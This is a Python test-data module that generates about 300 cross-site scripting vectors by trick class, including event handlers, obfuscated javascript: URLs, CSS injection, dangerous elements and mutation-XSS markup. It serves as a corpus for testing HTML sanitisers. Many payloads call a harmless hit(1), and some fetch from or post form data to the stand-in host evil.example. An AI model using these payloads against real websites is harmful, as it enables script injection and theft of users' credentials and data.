"""Active content by class of trick, built from descriptions of the tricks. Job: what sanitising must leave nothing of.

Every vector calls ``hit(1)`` or fetches from evil.example when a browser runs it. Sources for the classes:
HTML Living Standard (parsing, event handlers), CSS Syntax 3, and the published ideas of mutation XSS (markup
that changes meaning when it is parsed a second time).
"""

from __future__ import annotations

from collections.abc import Iterator

HIT = "hit(1)"
REMOTE = "http://evil.example/x"

_HANDLERS = """
onabort onafterprint onanimationend onanimationstart onauxclick onbeforeinput onbeforeunload onblur
oncanplay onchange onclick onclose oncontextmenu oncopy oncut ondblclick ondrag ondragend ondrop
onended onerror onfocus onfocusin onfocusout onfullscreenchange onhashchange oninput oninvalid
onkeydown onkeypress onkeyup onload onloadstart onmessage onmousedown onmouseenter onmousemove
onmouseover onmouseup onpageshow onpaste onplay onpointerdown onpointerover onpopstate onprogress
onreset onresize onscroll onscrollend onsearch onselect onshow onsubmit ontoggle ontouchstart
ontransitionend onunhandledrejection onunload onwebkitanimationend onwheel
""".split()  # noqa: SIM905 - a list of words

_SEPARATORS = (" ", "/", "\t", "\n", "\r", "\f", " / ", "\x00 ", "\x0b", '" ', "' ", "/x=y ")
_QUOTES = (f'"{HIT}"', f"'{HIT}'", HIT, f"`{HIT}`", f" = {HIT}"[3:], f'"&#104;it(1)"', f'"\n{HIT}"')  # noqa: F541

_SCRIPT_URLS = (
    f"javascript:{HIT}",
    f"JaVaScRiPt:{HIT}",
    f" javascript:{HIT}",
    f"\x01javascript:{HIT}",
    f"java\tscript:{HIT}",
    f"java\nscript:{HIT}",
    f"java\r\nscript:{HIT}",
    f"java\x00script:{HIT}",
    f"&#106;avascript:{HIT}",
    f"&#x6a;avascript:{HIT}",
    f"&#0000106avascript:{HIT}",
    f"java&Tab;script:{HIT}",
    f"java&NewLine;script:{HIT}",
    f"javascript&colon;{HIT}",
    f"javascript&#58;{HIT}",
    "javascript:&#104;it(1)",
    f"vbscript:{HIT}",
    f"livescript:{HIT}",
    f"data:text/html,<script>{HIT}</script>",
    "data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=",
    f"data:image/svg+xml,<svg onload={HIT}>",
    f"view-source:javascript:{HIT}",
    f"feed:javascript:{HIT}",
    f"jar:javascript:{HIT}",
    f"blob:javascript:{HIT}",
    f"mhtml:{REMOTE}",
    f"file:{REMOTE}",
    f"javascript://%0a{HIT}",
    f"\u200bjavascript:{HIT}",
    f"&nbsp;javascript:{HIT}",
    f"javascript\u2028:{HIT}",
    f"//javascript:{HIT}",
)

_URL_HOLDERS = (
    '<a href="{}">x</a>',
    '<form action="{}"><input type=submit></form>',
    '<iframe src="{}"></iframe>',
    '<embed src="{}">',
    '<object data="{}"></object>',
    '<img src="{}">',
    '<body background="{}">',
    '<base href="{}"><a href=x>x</a>',
    '<button formaction="{}">x</button>',
    '<svg><a xlink:href="{}"><text>x</text></a></svg>',
    '<math href="{}">x</math>',
    '<link rel=stylesheet href="{}">',
    '<meta http-equiv=refresh content="0;url={}">',
    '<area href="{}">',
    '<blockquote cite="{}">x</blockquote>',
    '<video poster="{}"></video>',
    '<table background="{}"><tr><td>x</table>',
)

_STYLES = (
    f"background:url({REMOTE})",
    f"background-image:url('javascript:{HIT}')",
    f"width:expression({HIT})",
    f"xss:expr/**/ession({HIT})",
    f"behavior:url({REMOTE})",
    f"-moz-binding:url({REMOTE}#x)",
    "position:fixed;top:0;left:0",
    "position:absolute;z-index:99999",
    f"list-style:url({REMOTE})",
    f"content:url({REMOTE})",
    f"cursor:url({REMOTE}),auto",
    f"background:\\75rl({REMOTE})",
    f"background:u/**/rl({REMOTE})",
    f"@import '{REMOTE}'",
    f"color:red;}}*{{background:url({REMOTE})",
    "margin:-9999px",
    "margin-top:-500px",
    "width:99999px;height:99999px",
    "float:left;transform:scale(100)",
    f"font-family:x;src:url({REMOTE})",
    f"background:image-set('{REMOTE}' 1x)",
    "display:block;opacity:0",
    "clip-path:none",
    f"color:red;background:url&#40;{REMOTE}&#41;",
    "font-family:'</style><script>hit(1)</script>",
    "color:var(--x,url(x))",
    "pointer-events:none",
    "animation:x 1s",
    "text-indent:-9999px",
    f"border-image:url({REMOTE})",
    f"filter:url({REMOTE})",
)

_ELEMENTS = (
    f"<script>{HIT}</script>",
    f"<SCRIPT>{HIT}</SCRIPT>",
    f"<script src={REMOTE}></script>",
    f"<script\x0b>{HIT}</script>",
    f"<scr<script>ipt>{HIT}</scr</script>ipt>",
    f"<<script>{HIT}//<</script>",
    f"<script/x>{HIT}</script>",
    f"<script>{HIT}",
    f"<svg><script>{HIT}</script></svg>",
    f"<svg><script href={REMOTE} /></svg>",
    f"<svg onload={HIT}>",
    f"<svg/onload={HIT}>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s></svg>",
    f"<svg><set attributeName=onmouseover to={HIT}></svg>",
    f'<svg><use href="data:image/svg+xml,<svg id=x onload={HIT}>#x">',
    f"<svg><foreignObject><iframe srcdoc='<script>{HIT}</script>'></foreignObject></svg>",
    f"<iframe srcdoc='<script>{HIT}</script>'>",
    f"<iframe src={REMOTE}>",
    f"<frameset><frame src={REMOTE}></frameset>",
    f"<object data={REMOTE}>",
    f"<embed src={REMOTE}>",
    f"<applet code={REMOTE}></applet>",
    f"<meta http-equiv=refresh content='0;url={REMOTE}'>",
    "<base href=//evil.example/>",
    f"<link rel=stylesheet href={REMOTE}>",
    f"<style>@import '{REMOTE}';</style>",
    f"<style>*{{background:url({REMOTE})}}</style>",
    f"<form action={REMOTE}><input name=password></form>",
    f"<input type=image src={REMOTE}>",
    "<button type=submit>x</button>",
    f"<isindex action=javascript:{HIT}>",
    f"<keygen autofocus onfocus={HIT}>",
    f"<textarea autofocus onfocus={HIT}>x</textarea>",
    f"<select autofocus onfocus={HIT}><option>x</select>",
    f"<details open ontoggle={HIT}>x</details>",
    f"<marquee onstart={HIT}>x",
    f"<video src={REMOTE} onerror={HIT}></video>",
    f"<audio src={REMOTE} onerror={HIT}>",
    f"<video><source onerror={HIT}></video>",
    f"<picture><source srcset={REMOTE}><img></picture>",
    f"<img srcset='{REMOTE} 2x'>",
    f"<img lowsrc={REMOTE}>",
    f"<img dynsrc={REMOTE}>",
    f"<img src={REMOTE}>",
    "<img src=//evil.example/x>",
    f"<img src=x onerror={HIT}>",
    f"<image src=x onerror={HIT}>",
    f"<a ping={REMOTE} href=https://x.example>x</a>",
    f"<bgsound src={REMOTE}>",
    f"<layer src={REMOTE}></layer>",
    f"<xml id=x src={REMOTE}></xml>",
    f"<template><script>{HIT}</script></template>",
    f"<slot><script>{HIT}</script></slot>",
    f"<portal src={REMOTE}></portal>",
    f"<dialog open><form method=dialog><button onclick={HIT}>x</dialog>",
    "<img name=cookie id=body>",
    f"<a id=x href=javascript:{HIT} name=y>x</a>",
    f"<p is=x-y onclick={HIT}>x</p>",
    f"<x-y onclick={HIT} tabindex=1>x</x-y>",
)

_MUTATIONS = (  # markup that means another thing after it was written out and parsed again
    f"<noscript><p title='</noscript><img src=x onerror={HIT}>'>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={HIT}>",
    f"<svg></p><style><a id='</style><img src=x onerror={HIT}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img onerror={HIT} src>",
    f"<!--><img src=x onerror={HIT}>-->",
    f"<!--x--!><img src=x onerror={HIT}>",
    f"<!-- --!><script>{HIT}</script>",
    f"<!<img src=x onerror={HIT}>",
    f"<?xml <img src=x onerror={HIT}>?>",
    f"<![CDATA[<img src=x onerror={HIT}>]]>",
    f"<svg><![CDATA[><img src=x onerror={HIT}>]]>",
    f"<title><img title='</title><img src=x onerror={HIT}>'></title>",
    f"<textarea><img title='</textarea><img src=x onerror={HIT}>'>",
    f"<style><img title='</style><img src=x onerror={HIT}>'></style>",
    f"<xmp><img title='</xmp><img src=x onerror={HIT}>'></xmp>",
    f"<noembed><img title='</noembed><img src=x onerror={HIT}>'>",
    f"<noframes><img title='</noframes><img src=x onerror={HIT}>'>",
    f"<iframe><img title='</iframe><img src=x onerror={HIT}>'></iframe>",
    f"<plaintext><img src=x onerror={HIT}>",
    f"<select><style></select><img src=x onerror={HIT}></style>",
    f"<table><td><svg><desc><table><img src=x onerror={HIT}>",
    f"<a href='https://x.example/\" onmouseover={HIT} x=\"'>x</a>",
    f"<a title='\"><img src=x onerror={HIT}>'>x</a>",
    f'<p title="&quot;><img src=x onerror={HIT}>">x</p>',
    f"<img alt='x` onerror={HIT} `' src=x>",
    f"<p title=`><img src=x onerror={HIT}>`>",
    f"&lt;img src=x onerror={HIT}&gt;",
    f"&amp;lt;script&amp;gt;{HIT}",
    f'<img src="x" title="&lt;/p&gt;<script>{HIT}</script>">',
    f'<a href="https://x.example"onclick="{HIT}">x</a>',
    f'<img """><script>{HIT}</script>">',
    f"<a href='x'<b onclick={HIT}>x</a>",
    f"+ADw-script+AD4-{HIT}+ADw-/script+AD4-",
    f"\xbcscript\xbe{HIT}\xbc/script\xbe",
    f"<\x00script>{HIT}</script>",
    f"<scr\x00ipt>{HIT}</script>",
    f"<svg><style>&lt;img src=x onerror={HIT}&gt;</style></svg>",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={HIT}>",
    f"<b><p><img src=x onerror={HIT}></b></p>",
    f"<font><table><font onclick={HIT}>x</table>",
    f"<li><ul><svg><li onclick={HIT}>",
    f"<a href=https://x.example{chr(0x2028)}onclick={HIT}>x</a>",
    f"<img src=x{chr(0x85)}onerror={HIT}>",
    f"<p\u2003onclick={HIT}>x",
)


def vectors() -> Iterator[tuple[str, str]]:
    """(class of trick, markup), some 300 of them."""
    for handler in _HANDLERS:
        yield "event-handler", f"<p {handler}={HIT} tabindex=0 autofocus contenteditable>x</p>"
    for separator in _SEPARATORS:
        yield "event-separator", f"<img src=x{separator}onerror={HIT}>"
        yield "event-separator-link", f"<a{separator}onclick={HIT}{separator}href=https://x.example>x</a>"
    for quote in _QUOTES:
        yield "event-quoting", f"<img src=x onerror={quote}>"
        yield "event-upper-case", f"<IMG SRC=x ONERROR={quote}>"
    for url in _SCRIPT_URLS:
        yield "script-url", f'<a href="{url}">x</a>'
        yield "script-url-image", f"<img src='{url}'>"
    for holder in _URL_HOLDERS:
        yield "url-holder", holder.format(f"javascript:{HIT}")
        yield "url-holder-remote", holder.format(f"data:text/html,<script>{HIT}</script>")
    for style in _STYLES:
        yield "style", f'<div style="{style}">x</div>'
    for element in _ELEMENTS:
        yield "element", element
    for mutation in _MUTATIONS:
        yield "mutation", mutation
